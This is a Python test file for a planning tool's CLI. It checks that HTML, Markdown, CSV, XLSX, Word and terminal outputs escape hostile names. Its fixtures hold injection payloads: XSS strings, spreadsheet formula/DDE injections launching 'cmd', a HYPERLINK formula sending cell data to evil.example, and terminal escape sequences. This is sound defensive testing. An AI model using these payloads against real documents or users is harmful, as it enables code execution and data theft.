"""Hostile names in every output: HTML and Markdown escape them, csv/xlsx cells never run them,
the terminal never receives their control characters, and the programme workbook round-trips them."""

from __future__ import annotations

import contextlib
import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from engine.cli import main
from engine.io.cells import DANGEROUS, csv_text, from_xlsx_text, xlsx_text
from engine.io.load import load_programme, save_programme
from engine.io.xlsx import read_workbook, workbook_bytes
from engine.present.escape import markdown_text, terminal_text
from engine.programme.model import Programme
from tests.conftest import DATA

HOSTILE = {
    "programme": "</title><img src=x onerror=alert(1)>",
    "scenario": "<script>alert(1)</script>",
    "hr": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "payroll": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "county": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other": "Other\x1b]52;c;ZXZpbA==\x07 Council",
    "hr-county": "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "hr-other": "\tTabbed\rreturn | pipe",
    "payroll-county": "_x0041_ <x-evil>&amp;</x-evil>",
    "pm": "\x9b31mC1 CSI\x1b[2J",
    "reason": "<img src=x onerror=alert(2)> [a](javascript:alert(2))",
    "decision": "Cabinet <script>alert(3)</script> =1+1",
}
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile_programme(names: dict[str, str] | None = None) -> Programme:
    """tests/data/small.yaml with every name and free text (programme, partners, services, options' notes,
    the pool, the dependency's reason, the final decision) replaced."""
    names = HOSTILE if names is None else names
    base = load_programme(DATA / "small.yaml")
    data = base.model_dump()
    data["name"] = names["programme"]
    for section in ("partners", "services", "resources"):
        for record in data[section]:
            record["name"] = names.get(record["id"], record["name"])
    for record in data["options"]:  # options have ids, not names: their free text is the notes
        record["notes"] = names.get(record["id"], record["notes"])
    for record in data["dependencies"]:
        record["reason"] = names.get("reason", record["reason"])
    data["exception_policy"]["final_decision"] = names.get(
        "decision", data["exception_policy"]["final_decision"]
    )
    return Programme.model_validate(data)


def write_scenarios(folder: Path, programme: Programme, name: str) -> tuple[Path, Path]:
    """The programme as YAML, a scenario on it named ``name`` and a do-nothing one to compare with."""
    save_programme(programme, folder / "programme.yaml")
    first, second = folder / "plan.yaml", folder / "nothing.yaml"
    first.write_text(yaml.safe_dump({"name": name, "base": "programme.yaml"}), encoding="utf-8")
    second.write_text(
        yaml.safe_dump({"name": "nothing " + name, "base": "programme.yaml", "do_nothing": True}),
        encoding="utf-8",
    )
    return first, second


def cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with (
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        pytest.raises(SystemExit) as exited,
    ):
        main(list(args))
    return int(exited.value.code or 0), out.getvalue(), err.getvalue()


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, the title, and what each script says."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.title = ""
        self.scripts: list[str] = []
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._open = tag
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        self._open = None

    def handle_data(self, data: str) -> None:
        if self._open == "title":
            self.title += data
        elif self._open == "script":
            self.scripts[-1] += data


def injected_tags(page: str) -> list[str]:
    """Tags that can only have come from a name, parsed as tags: the hostile names' <x-evil>,
    <img onerror> and a script that says alert(…) (plotly's own scripts hold names only as JSON text)."""
    parser = Tags()
    parser.feed(page)
    found = [tag for tag, attrs in parser.tags if tag == "x-evil" or (tag == "img" and "onerror" in attrs)]
    found += [f"<script>{s}</script>" for s in parser.scripts if s.strip().startswith("alert(")]
    return found


def csv_formula_cells(text: str) -> list[str]:
    """Cells of a csv that a spreadsheet would take for a formula (a negative number is a number)."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(DANGEROUS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def workbook_problems(data: bytes) -> list[str]:
    """Formula cells, or text cells that look like formulas without Excel's quote prefix."""
    book = load_workbook(io.BytesIO(data))
    problems = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif (
                    isinstance(cell.value, str) and cell.value.startswith(DANGEROUS) and not cell.quotePrefix
                ):
                    problems.append(f"{sheet.title}!{cell.coordinate} has no quote prefix: {cell.value!r}")
    return problems


def workbook_texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    return {
        from_xlsx_text(value)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if isinstance(value, str)
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    first, second = write_scenarios(folder, hostile_programme(), HOSTILE["scenario"])
    return {"folder": folder, "programme": folder / "programme.yaml", "plan": first, "nothing": second}


# ------------------------------------------------------------------------------------- the functions
def test_csv_text_quotes_what_a_spreadsheet_would_run():
    for text in ("=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(text) == "'" + text
    assert csv_text("HR") == "HR" and csv_text(-2.5) == -2.5 and csv_text(None) is None


def test_xlsx_text_escapes_what_xml_cannot_hold_and_reads_back():
    for text in ("a\x1bb\x07", "_x0041_", "_x005F_x0041_", "x\ry", "\x00", "plain _x12_ text"):
        assert from_xlsx_text(xlsx_text(text)) == text
    assert xlsx_text("a\x1b") == "a_x001B_"


def test_markdown_text_shows_names_as_words():
    assert markdown_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_text("[x](javascript:alert(1))") == r"\[x\](javascript&#58;alert(1))"
    assert markdown_text("a | b\nc") == r"a \| b c"
    assert markdown_text("# heading") == r"\# heading"


def test_terminal_text_replaces_control_characters_but_keeps_layout():
    assert terminal_text("a\x1b]52;c;QQ==\x07b\tc\nd\re\x9b") == "a?]52;c;QQ==?b\tc\nd?e?"


# ------------------------------------------------------------------------------------ the commands
def test_export_xlsx_round_trips_hostile_names(tmp_path):
    programme = hostile_programme()
    data = workbook_bytes(programme)
    assert workbook_problems(data) == []
    assert read_workbook(io.BytesIO(data), "hostile.xlsx") == programme
    book = tmp_path / "p.xlsx"
    code, _, err = cli("export-xlsx", str(DATA / "small.yaml"), "-o", str(book))
    assert code == 0, err


def test_the_cli_round_trip_export_then_import(hostile, tmp_path):
    book, back = tmp_path / "p.xlsx", tmp_path / "back.yaml"
    assert cli("export-xlsx", str(hostile["programme"]), "-o", str(book))[0] == 0
    assert cli("import-xlsx", str(book), "-o", str(back))[0] == 0
    assert load_programme(back) == load_programme(hostile["programme"])


def test_plan_and_score_csv_never_start_a_formula(hostile):
    for args in (
        ("plan", str(hostile["programme"]), "--format", "csv"),
        ("score", str(hostile["programme"]), "--format", "csv"),
    ):
        code, out, err = cli(*args)
        assert code == 0, err
        assert csv_formula_cells(out) == []
        assert "'@SUM(1+1)*cmd|" in out  # the county's name, as text


def test_plan_and_compare_workbooks_hold_text_not_formulas(hostile, tmp_path):
    plan, compare = tmp_path / "plan.xlsx", tmp_path / "compare.xlsx"
    assert cli("plan", str(hostile["programme"]), "--format", "xlsx", "--out", str(plan))[0] == 0
    assert (
        cli(
            "compare",
            str(hostile["plan"]),
            str(hostile["nothing"]),
            "--format",
            "xlsx",
            "--out",
            str(compare),
        )[0]
        == 0
    )
    for path in (plan, compare):
        assert workbook_problems(path.read_bytes()) == []
    assert HOSTILE["hr"] in workbook_texts(plan.read_bytes())
    assert HOSTILE["scenario"] in workbook_texts(compare.read_bytes())


def test_compare_html_escapes_a_scenario_name(hostile):
    code, page, err = cli("compare", str(hostile["plan"]), str(hostile["nothing"]), "--format", "html")
    assert code == 0, err
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert injected_tags(page) == []


def test_the_gantt_page_escapes_the_programme_name(hostile, tmp_path):
    gantt = tmp_path / "g.html"
    code, _, err = cli("plan", str(hostile["programme"]), "--gantt", str(gantt))
    assert code == 0, err
    page = gantt.read_text(encoding="utf-8")
    assert "</title><img" not in page and "<x-evil>" not in page
    assert injected_tags(page) == []
    parser = Tags()
    parser.feed(page)
    assert parser.title == HOSTILE["programme"]  # the browser shows the name as it is


def test_the_report_escapes_names_in_html_and_markdown(hostile, tmp_path):
    md, page = tmp_path / "r.md", tmp_path / "r.html"
    for out in (md, page):
        code, _, err = cli("report", str(hostile["plan"]), "--out", str(out), "--draws", "10")
        assert code == 0, err
    markdown, html = md.read_text(encoding="utf-8"), page.read_text(encoding="utf-8")
    assert injected_tags(html) == []
    lowered = markdown.lower()
    assert "<script" not in lowered and "<img" not in lowered and "javascript:" not in lowered
    assert "<x-evil" not in lowered and "](javascript" not in lowered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown


def test_the_word_report_holds_hostile_names_as_text(hostile, tmp_path):
    import docx

    out = tmp_path / "r.docx"
    code, _, err = cli("report", str(hostile["plan"]), "--out", str(out), "--draws", "10")
    assert code == 0, err  # control characters in names no longer end in "not XML compatible"
    document = docx.Document(str(out))
    text = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        cell.text for grid in document.tables for row in grid.rows for cell in row.cells
    )
    assert HOSTILE["scenario"] in text and HOSTILE["programme"] in text
    assert "Other?]52;c;ZXZpbA==? Council" in text and "\x1b" not in text


@pytest.mark.parametrize(
    "args",
    [
        ("show", "{programme}"),
        ("validate", "{programme}"),
        ("score", "{programme}"),
        ("plan", "{programme}"),
        ("compare", "{plan}", "{nothing}"),
        ("switching", "{plan}"),
    ],
    ids=lambda a: a[0],
)
def test_tables_on_the_terminal_carry_no_control_characters(hostile, args):
    code, out, err = cli(*(a.format(**{k: str(v) for k, v in hostile.items()}) for a in args))
    assert code in (0, 2), err
    assert CONTROL.findall(out) == [] and CONTROL.findall(err) == []
    assert "\x1b" not in out + err and "\x9b" not in out + err


def test_an_error_message_naming_a_hostile_id_carries_no_control_characters(tmp_path):
    bad = tmp_path / "bad.yaml"
    text = (
        (DATA / "small.yaml")
        .read_text(encoding="utf-8")
        .replace("provider: other", 'provider: "o\\e]52;c;QQ==\\a"')
    )
    bad.write_text(text, encoding="utf-8")
    code, out, err = cli("validate", str(bad))
    assert code == 2
    assert CONTROL.findall(out + err) == []
